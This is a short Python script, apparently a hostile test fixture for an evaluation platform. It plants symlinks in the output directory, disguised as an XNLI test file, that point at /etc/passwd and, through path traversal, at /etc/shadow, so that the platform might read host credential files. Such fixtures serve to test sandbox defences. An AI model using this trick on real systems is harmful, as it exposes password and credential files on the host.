"""Hostile: leaves links in /output pointing at host files, hoping the platform follows them."""

import os

output = os.environ.get("PODIUM_OUTPUT", "/output")
os.makedirs(os.path.join(output, "xnli"), exist_ok=True)
os.symlink("/etc/passwd", os.path.join(output, "xnli", "test-en.tsv"))
os.symlink("../../../../etc/shadow", os.path.join(output, "escape.tsv"))
print("left symbolic links in /output")
